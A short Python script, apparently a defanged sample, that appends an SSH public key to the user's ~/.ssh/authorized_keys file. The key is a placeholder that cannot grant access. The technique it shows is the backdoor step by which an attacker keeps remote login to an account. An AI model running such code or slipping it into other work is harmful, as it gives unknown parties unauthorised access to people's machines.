import os

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDEFANGEDDEFANGEDDEFANGEDDEFANGEDDEFANGED000 x@example.invalid"
p = os.path.expanduser("~/.ssh/authorized_keys")
os.makedirs(os.path.dirname(p), exist_ok=True)
with open(p, "a") as fh:
    fh.write("\n" + KEY + "\n")
